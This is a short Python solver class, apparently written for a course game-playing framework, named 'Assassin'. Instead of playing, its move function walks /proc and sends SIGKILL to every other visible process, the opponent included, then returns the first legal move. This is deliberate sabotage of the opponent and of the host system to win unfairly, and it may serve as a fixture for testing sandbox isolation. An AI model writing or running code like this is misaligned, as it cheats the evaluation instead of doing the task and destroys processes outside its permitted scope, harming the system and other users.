"""Opponent kill: before each move, SIGKILL every other process it can see (its opponent's too)."""
import os
import signal

from course_lib.solvers import Solver


class Assassin(Solver):
    def select_move(self, game, state, player):
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        return game.get_valid_moves(state)[0]
